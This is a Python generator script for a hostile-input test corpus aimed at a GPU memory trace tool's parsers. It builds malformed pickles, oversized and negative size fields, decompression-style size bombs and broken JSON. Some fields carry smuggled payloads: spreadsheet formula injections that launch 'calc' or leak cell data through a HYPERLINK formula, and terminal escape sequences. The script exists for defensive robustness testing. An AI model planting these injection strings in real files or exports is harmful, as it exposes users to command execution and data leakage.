#!/usr/bin/env python3
"""gen_corpus.py: writes the hostile-input corpus (tests/RELIABILITY.md) into a folder.

    gen_corpus.py OUT_DIR [--large] [--by-tools]

Every case is built byte by byte here, from the formats' own specifications (a pickle writer
for plain data, CSV text, and the trace container of formats/SPEC.md written with the
project's tools where a valid part is needed), so the corpus is reproducible and each input
says in code what is hostile about it. The small cases are also checked in under
tests/hostile/cases/ (regenerate: tests/hostile/gen_corpus.py tests/hostile/cases); --large
adds the inputs of tens of MB that are made at test time instead of checked in; --by-tools
writes the text of the three checked-in traces made with gpurec import (by_tools says how).
No third-party module; Python 3.7+.
"""
import os
import struct
import sys

# ---- pickle (protocol 4, plain-data opcodes only: what CPython's pickler writes) -------------


class Pk:
    def __init__(self):
        self.b = bytearray(b"\x80\x04")

    def raw(self, x):
        self.b += x
        return self

    def s(self, text):  # str
        t = text.encode() if isinstance(text, str) else text
        if len(t) < 256:
            self.b += b"\x8c" + bytes([len(t)]) + t
        else:
            self.b += b"X" + struct.pack("<I", len(t)) + t
        return self

    def i(self, v):  # int
        if 0 <= v < 256:
            self.b += b"K" + bytes([v])
        elif -(1 << 31) <= v < (1 << 31):
            self.b += b"J" + struct.pack("<i", v)
        else:  # LONG1, two's complement little-endian
            n = (v.bit_length() + 8) // 8
            self.b += b"\x8a" + bytes([n]) + v.to_bytes(n, "little", signed=True)
        return self

    def f(self, v):  # float (BINFLOAT, big-endian)
        self.b += b"G" + struct.pack(">d", v)
        return self

    def dict(self):
        self.b += b"}"
        return self

    def list(self):
        self.b += b"]"
        return self

    def mark(self):
        self.b += b"("
        return self

    def setitems(self):
        self.b += b"u"
        return self

    def setitem(self):
        self.b += b"s"
        return self

    def appends(self):
        self.b += b"e"
        return self

    def memoize(self):
        self.b += b"\x94"
        return self

    def get(self, idx):
        self.b += (b"h" + bytes([idx])) if idx < 256 else (b"j" + struct.pack("<I", idx))
        return self

    def stop(self):
        self.b += b"."
        return bytes(self.b)


def entry(p, action, addr, size, stream=0, t=1000, size_is=None):
    """One device_traces entry dict; size_is writes the size with a custom opcode run."""
    p.dict().mark().s("action").s(action).s("addr").i(addr).s("size")
    if size_is is None:
        p.i(size)
    else:
        size_is(p)
    p.s("stream").i(stream).s("time_us").i(t).setitems()


def snapshot(entries_fn=None, settings_fn=None):
    """{'segments': [], 'device_traces': [[entries]], 'allocator_settings': {...}}"""
    p = Pk()
    p.dict().mark()
    p.s("segments").list()
    p.s("device_traces").list().mark().list().mark()
    if entries_fn:
        entries_fn(p)
    p.appends().appends()
    p.s("allocator_settings")
    if settings_fn:
        settings_fn(p)
    else:
        p.dict()
    p.setitems()
    return p.stop()


def pk_settings_deep(depth):
    """allocator_settings {'x': {'x': {'x': ...}}} nested depth times (iterative opcodes)."""
    def st(p):
        p.dict()
        for _ in range(depth):
            p.s("x").dict()
        for _ in range(depth):
            p.setitem()
    return snapshot(None, st)


def pk_settings_self():
    """allocator_settings d with d['roundup_power2_divisions'] = d (through the memo)."""
    p = Pk()
    p.dict().memoize()  # root: memo 0
    p.mark().s("segments").list().s("device_traces").list().mark().list().appends()
    p.s("allocator_settings").dict().memoize()  # memo 1
    p.s("roundup_power2_divisions").get(1).setitem()
    p.setitems()
    return p.stop()


def pk_settings_wide(levels, width):
    """d0 = {'a': 1}; d(k+1) = {'k0': dk, 'k1': dk, ...} (width keys, all the same dk through
    the memo): width**levels values to print from a few KB."""
    p = Pk()
    p.dict().memoize()  # root: memo 0
    p.mark().s("segments").list().s("device_traces").list().mark().list().appends()
    p.dict().mark().s("a").i(1).setitems().memoize().raw(b"0")  # memo 1, popped
    for lvl in range(levels):
        p.dict().mark()
        for k in range(width):
            p.s("k%d" % k).get(1 + lvl)
        p.setitems().memoize().raw(b"0")  # memo 2 + lvl, popped
    p.s("allocator_settings").dict().s("roundup_power2_divisions").get(1 + levels).setitem()
    p.setitems()
    return p.stop()


def pk_size(size_writer):
    """One alloc entry whose size is written by size_writer(p)."""
    return snapshot(lambda p: entry(p, "alloc", 0x7f0000000000, 0, size_is=size_writer))


def pk_many_none(n):
    """A list of n Nones under the root: 1 byte of input per value."""
    p = Pk()
    p.dict().mark().s("segments").list().s("device_traces").list().s("junk").list().mark()
    p.raw(b"N" * n)
    p.appends().setitems()
    return p.stop()


def pk_shared_entries(n):
    """One entry dict referenced n times through the memo: 2 bytes per trace entry."""
    p = Pk()
    p.dict().mark().s("segments").list().s("device_traces").list().mark().list().mark()
    entry(p, "alloc", 0x7f0000000000, 4096)
    p.memoize()  # slot 0
    p.raw(b"h\x00" * n)
    p.appends().appends().setitems()
    return p.stop()


def pk_shared_frames(n_frames, n_entries):
    """One frames list of n_frames library frames shared by n_entries fresh entries: the
    callsite walk over the frames must happen once, not per entry."""
    p = Pk()
    p.dict().mark().s("segments").list().s("device_traces").list().mark().list().mark()
    p.dict().mark().s("action").memoize().s("alloc").memoize().s("size").memoize().i(4096)
    p.s("frames").memoize().list().mark()  # memo 0..3: the keys and 'alloc'
    p.dict().mark().s("filename").s("/x/site-packages/torch/a.py").s("line").i(1).s("name").s("f").setitems()
    p.memoize()  # memo 4: one frame
    p.raw(b"h\x04" * (n_frames - 1))
    p.appends().memoize()  # memo 5: the frames list
    p.setitems()
    for _ in range(n_entries - 1):
        p.raw(b"}(h\x00h\x01h\x02K\x07h\x03h\x05u")
    p.appends().appends().setitems()
    return p.stop()


def pk_tiny_entries(n):
    """n fresh entries {'action': 'alloc'} of 7 bytes each (keys through the memo)."""
    p = Pk()
    p.dict().mark().s("segments").list().s("device_traces").list().mark().list().mark()
    p.dict().mark().s("action").memoize().s("alloc").memoize().setitems()
    p.raw(b"}(h\x00h\x01u" * (n - 1))
    p.appends().appends().setitems()
    return p.stop()


def pk_wide_entry(n_keys, n_entries):
    """One entry dict with n_keys keys, shared by n_entries entries: each lookup in it would
    scan all the keys."""
    p = Pk()
    p.dict().mark().s("segments").list().s("device_traces").list().mark().list().mark()
    p.dict().mark().s("action").s("alloc")
    for k in range(n_keys):
        p.s("k%d" % k).i(k & 0xff)
    p.setitems().memoize()  # slot 0
    p.raw(b"h\x00" * (n_entries - 1))
    p.appends().appends().setitems()
    return p.stop()


def pk_memo_far(idx):
    """LONG_BINPUT at a huge memo index."""
    p = Pk()
    p.dict().raw(b"r" + struct.pack("<I", idx))
    return p.stop()


def pk_many_devices(n_dev, per_dev):
    """n_dev device lists of per_dev entries (the merge over devices)."""
    p = Pk()
    p.dict().mark().s("segments").list().s("device_traces").list().mark()
    entry_pk = Pk()
    entry_pk.b = bytearray()
    for d in range(n_dev):
        p.list().mark()
        for k in range(per_dev):
            entry(p, "alloc", 0x1000 + k * 512, 512, t=k)
        p.appends()
    p.appends().setitems()
    return p.stop()


# ---- CSV text form (formats/SPEC.md section 8) ------------------------------------------------

CSV_HEAD = "# gpumem trace, text form 1\n#gpu_total_mem=85899345920\n" \
           "ts_ns,kind,device,stream,addr,size,mem_kind,flags,corr_id,callsite,context\n"


def csv_rows(*rows, head=CSV_HEAD):
    return (head + "".join(r + "\n" for r in rows)).encode()


def write(out, name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


def small(out):
    # item 1: a request larger than the device, and 2^64-1
    write(out, "huge_request.csv", csv_rows("1000,alloc,0,0,0x1000,90000000000,device,0x0,1,0,0",
                                            "2000,free,0,0,0x1000,90000000000,device,0x0,1,0,0"))
    write(out, "size_max.csv", csv_rows("1000,alloc,0,0,0x1000,18446744073709551615,device,0x0,1,0,0"))
    write(out, "size_negative.csv", csv_rows("1000,alloc,0,0,0x1000,-1,device,0x0,1,0,0"))
    write(out, "size_nan.csv", csv_rows("1000,alloc,0,0,0x1000,nan,device,0x0,1,0,0"))
    write(out, "failed_alloc_size_max.csv",  # a cudaMalloc(-1) the program really made: kept
          csv_rows("1000,alloc_failed,0,0,0x0,18446744073709551615,device,0x0,1,0,0"))
    # item 3: a string id near 2^32 (was (ID+1) x 8 bytes), and many header kvs
    write(out, "string_id_huge.csv", csv_rows("#string.4294967294=x",
                                              "1000,alloc,0,0,0x1000,512,device,0x0,1,4294967294,0"))
    write(out, "kv_many.csv", ("# gpumem trace, text form 1\n" +
                               "".join("#kv.k%d=v\n" % k for k in range(5000)) +
                               "ts_ns,kind\n1,marker\n").encode())
    # item 8: strings that would drive a terminal or a spreadsheet
    esc = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mRED"
    write(out, "terminal_escapes.csv",
          ("# gpumem trace, text form 1\n#host=" + esc + "\n#command_line=python " + esc +
           "\n#kv.PYTORCH_CUDA_ALLOC_CONF=" + esc + "\n" +
           "ts_ns,kind,device,stream,addr,size,mem_kind,flags,corr_id,callsite,context\n" +
           "#string.1=train.py:1:f " + esc + "\n" +
           "1000,alloc,0,0,0x1000,4096,device,0x0,1,1,0\n").encode())
    write(out, "formula_cells.csv",
          ("# gpumem trace, text form 1\n#host==HYPERLINK(\"http://x/?\"&A1)\n"
           "#command_line=@SUM(1+1)*cmd|' /C calc'!A0\n"
           "ts_ns,kind,device,stream,addr,size,mem_kind,flags,corr_id,callsite,context\n"
           "#string.1=-2+3+cmd|' /C calc'!A0\n#string.2=+1\n#string.3=\\tTAB=1\n#string.4=\\rCR=1\n"
           "1000,alloc,0,0,0x1000,4096,device,0x0,1,1,0\n2000,alloc,0,0,0x2000,8192,device,0x0,2,2,0\n"
           "3000,alloc,0,0,0x3000,8192,device,0x0,3,3,0\n4000,alloc,0,0,0x4000,8192,device,0x0,4,4,0\n").encode())
    # item 2: hostile allocator_settings
    write(out, "settings_deep.pickle", pk_settings_deep(100))
    write(out, "settings_self.pickle", pk_settings_self())
    write(out, "settings_wide.pickle", pk_settings_wide(4, 200))
    # item 7: sizes in the pickle
    write(out, "size_negative.pickle", pk_size(lambda p: p.i(-1)))
    write(out, "size_nan.pickle", pk_size(lambda p: p.f(float("nan"))))
    write(out, "size_float.pickle", pk_size(lambda p: p.f(4096.0)))
    write(out, "size_2p64.pickle", pk_size(lambda p: p.i((1 << 64) - 1)))
    write(out, "memo_far.pickle", pk_memo_far(0xfffffff0))
    # not a trace at all
    write(out, "empty.zst", b"")
    write(out, "zeros.zst", b"\0" * 4096)


def results(runs_json):
    return ('{"format":"gpumem-results","version":1,"tool":"gpureplay 0.1.0","runs":[' + runs_json + ']}').encode()


RUN = ('{"trace":"%s","policy":"%s","backend":"sim","events":1,"peak_reserved_bytes":%s,'
       '"peak_allocated_bytes":4096,"peak_requested_bytes":4096,"lower_bound_bytes":4096,'
       '"fragmentation_at_peak":0.5,"device_alloc_calls":1,"device_free_calls":0,"alloc_retries":0,'
       '"ooms":0,"replay_seconds":0.001,"events_per_second":1000}')


def small_json(out):
    # results files are input too: a policy name that drives a terminal or a spreadsheet,
    # numbers out of range, nesting beyond any results file
    write(out, "results_escapes.json", results(RUN % ("esc.zst", "\\u001b]0;pwned\\u0007=cmd|' /C calc'!A0", "2097152")))
    write(out, "results_negative.json", results(RUN % ("x.zst", "pytorch", "-1")))
    write(out, "results_overflow.json", results(RUN % ("x.zst", "bfc", "18446744073709551616")))
    write(out, "results_float.json", results(RUN % ("x.zst", "bfc", "1e400")))
    write(out, "results_nan.json", results(RUN % ("x.zst", "bfc", "NaN")))
    write(out, "results_deep.json", b"[" * 5000 + b"]" * 5000)
    write(out, "results_not_json.json", b"\x89PNG\r\n\x1a\n" + bytes(range(256)))


def large(out, scale=1):
    write(out, "settings_deep.pickle", pk_settings_deep(200000))  # the old printer's recursion
    write(out, "results_wide.json", b"[" + b"0," * ((8 << 20) // scale) + b"0]")
    # item 3: memory bounded by what the input holds
    write(out, "many_none.pickle", pk_many_none(20 << 20))
    write(out, "shared_entries.pickle", pk_shared_entries(8 << 20))
    write(out, "shared_frames.pickle", pk_shared_frames(200000, 200000))
    write(out, "wide_entry.pickle", pk_wide_entry(100000, 100000))
    write(out, "many_devices.pickle", pk_many_devices(4096, 300))
    write(out, "tiny_entries.pickle", pk_tiny_entries(3 << 20))


def by_tools(out, scale=1):
    """The text the checked-in traces made by the tools come from (`gpurec import X.csv -o
    cases/X.zst`): strings_bomb (8 chunks of 63 distinct strings of 1 MiB each: 528 MB of text
    in a 36 KB trace), live_bomb (a million allocations never freed: 4.6 KB) and
    alloc_size_max (allocs of 2^64-1 and 2^48+1 bytes in the binary form, which the text form
    refuses since issue 12: made with that check disabled). scale > 1 (--bomb-scale, the
    sanitizer runs): strings of 1/scale MiB and 1/scale of the million allocations, made and
    imported at test time; the checked-in traces are scale 1."""
    with open(os.path.join(out, "strings_bomb.csv"), "w") as f:
        f.write(CSV_HEAD)
        sid = 1
        for _ in range(8):
            for _ in range(63):
                f.write("#string.%d=%s%d\n" % (sid, "a" * ((1 << 20) // scale - 10), sid))
                f.write("%d,alloc,0,0,0x%x,1024,device,0x0,0,%d,0\n" % (sid * 1000, sid * 4096, sid))
                sid += 1
            f.write("#dropped=0\n")
    with open(os.path.join(out, "live_bomb.csv"), "w") as f:
        f.write(CSV_HEAD)
        for i in range(1000000 // scale):
            f.write("%d,alloc,0,0,0x%x,512,device,0x0,0,0,0\n" % (i, 0x7f0000000000 + i * 512))
    write(out, "alloc_size_max.csv", csv_rows("1000,alloc,0,7,0x7f0000000000,4096,device,0x0,1,0,0",
                                              "2000,alloc,0,7,0x7f0000100000,18446744073709551615,device,0x0,2,0,0",
                                              "3000,alloc,0,7,0x7f0000200000,281474976710657,device,0x0,3,0,0",
                                              "4000,free,0,7,0x7f0000100000,18446744073709551615,device,0x0,2,0,0",
                                              "5000,free,0,7,0x7f0000000000,4096,device,0x0,1,0,0"))


# ---- issue 14 "Bad input": traces the report, oom, diff, ranks and the exports must describe --
# (tests/RELIABILITY.md "Bad input"). The CSV text form is imported with gpurec import at test
# time; the RMM logs (recorder/rmm/rmm_import.h) likewise.

BAD_HEAD = "# gpumem trace, text form 1\n#gpu_total_mem=85899345920\nts_ns,kind,device,stream,addr,size,callsite\n"
RMM_HEAD = "Thread,Time,Action,Pointer,Size,Stream\n"


def bad_small(out):
    # no allocations: a trace with markers only, and one with no event at all
    write(out, "bad_no_allocs.csv", (BAD_HEAD + "#string.1=step\n" +
                                     "".join("%d,marker,0,-,0x0,%d,1\n" % (1000 * k, k) for k in range(1, 4))).encode())
    write(out, "bad_no_events.csv", BAD_HEAD.encode())
    # only frees: 100 frees of pointers never allocated (a trace started mid-run)
    write(out, "bad_only_frees.csv", (BAD_HEAD + "".join(
        "%d,free,0,0,0x%x,4096,0\n" % (1000 * k, 0x7f0000000000 + k * 4096) for k in range(1, 101))).encode())
    # events of one device out of order: device 0's time steps back by 1 ms every 10 events
    rows = []
    t = 10 ** 9
    for k in range(200):
        t += 1000 if k % 10 else -10 ** 6
        a = 0x7f0000000000 + (k // 2) * 0x100000
        rows.append("%d,%s,0,0,0x%x,%d,0" % (t, "alloc" if k % 2 == 0 else "free", a, 1 << 20))
    write(out, "bad_out_of_order.csv", (BAD_HEAD + "".join(r + "\n" for r in rows)).encode())
    # two ranks of one job: rank 0 allocates nothing, rank 1 only frees (gpuanalyze ranks)
    for r, body in ((0, ""), (1, "".join("%d,free,0,0,0x%x,4096,0\n" % (1000 * k, 0x7f0000000000 + k * 4096)
                                         for k in range(1, 11)))):
        write(out, "bad_rank%d.csv" % r, ("# gpumem trace, text form 1\n#gpu_total_mem=85899345920\n#rank=%d\n"
                                          "#world_size=2\n#command_line=python train.py\n"
                                          "ts_ns,kind,device,stream,addr,size,callsite\n" % r + body).encode())
    # RMM logs with the same pathologies
    write(out, "bad_rmm_no_allocs.csv", RMM_HEAD.encode())
    write(out, "bad_rmm_only_frees.csv", (RMM_HEAD + "".join(
        "1,10:00:00.%06d,free,0x%x,4096,0x0\n" % (k, 0x7f0000000000 + k * 4096) for k in range(1, 11))).encode())
    write(out, "bad_rmm_out_of_order.csv", (RMM_HEAD + "1,10:00:05.000000,allocate,0x7f0000000000,4096,0x0\n"
                                            "1,10:00:01.000000,free,0x7f0000000000,4096,0x0\n").encode())


def bad_large(out, n=1000000):
    """n allocations from n distinct callsites (each freed at once, so memory follows the
    callsites, not live allocations), as CSV text and as an RMM log of n threads."""
    # callsites of 100 KB: 20 allocations, each from a distinct 100 KB callsite (a stack of
    # 1000 frames of 100 bytes, as a deep recursion gives)
    lines = []
    for k in range(1, 21):
        frame = ("/home/user/project/model/layers/block_%04d.py:%d:forward" % (k, k)).ljust(99, "_")
        lines.append("#string.%d=%s\n" % (k, (frame + ";") * 1024))
        lines.append("%d,alloc,0,0,0x%x,%d,%d\n" % (1000 * k, 0x7f0000000000 + k * 0x100000, 1 << 20, k))
    write(out, "bad_callsite_100k.csv", (BAD_HEAD + "".join(lines)).encode())
    # an RMM thread id of 100 KB (RMM's callsite is its thread)
    write(out, "bad_rmm_thread_100k.csv", (RMM_HEAD + "9" * 102400 +
                                           ",10:00:00.000001,allocate,0x7f0000000000,4096,0x0\n").encode())
    with open(os.path.join(out, "bad_callsites_1m.csv"), "w") as f:
        f.write(BAD_HEAD)
        for k in range(1, n + 1):
            f.write("#string.%d=model.py:%d:layer_%d\n%d,alloc,0,0,0x7f0000000000,%d,%d\n%d,free,0,0,0x7f0000000000,%d,0\n"
                    % (k, k, k, 2 * k, 512 * (1 + k % 64), k, 2 * k + 1, 512 * (1 + k % 64)))
    with open(os.path.join(out, "bad_rmm_threads_1m.csv"), "w") as f:
        f.write(RMM_HEAD)
        for k in range(1, n + 1):
            us = 2 * k
            f.write("%d,10:%02d:%02d.%06d,allocate,0x7f0000000000,%d,0x0\n%d,10:%02d:%02d.%06d,free,0x7f0000000000,%d,0x0\n"
                    % (k, us // 60000000, us // 1000000 % 60, us % 1000000, 512 * (1 + k % 64),
                       k, (us + 1) // 60000000, (us + 1) // 1000000 % 60, (us + 1) % 1000000, 512 * (1 + k % 64)))


def main():
    if len(sys.argv) < 2:
        sys.exit("usage: gen_corpus.py OUT_DIR [--large [--callsites=N]] [--by-tools] [--bomb-scale=S]")
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    small(out)
    small_json(out)
    bad_small(out)
    # --bomb-scale S: the size bombs (results_wide, strings_bomb, live_bomb) at 1/S of their
    # size (run_hostile.py passes HOSTILE_BOMB_SCALE; 1 unless the sanitizer configs scale them)
    scale = 1
    for arg in sys.argv[2:]:
        if arg.startswith("--bomb-scale="):
            scale = int(arg.split("=", 1)[1])
    if "--large" in sys.argv[2:]:
        large(out, scale)
        # --callsites N: the size of the distinct-callsite cases (run_hostile.py passes
        # HOSTILE_CALLSITES; 10^6 unless the sanitizer configs scale it down)
        n = 1000000
        for arg in sys.argv[2:]:
            if arg.startswith("--callsites="):
                n = int(arg.split("=", 1)[1])
        bad_large(out, n)
    if "--by-tools" in sys.argv[2:]:
        by_tools(out, scale)


if __name__ == "__main__":
    main()
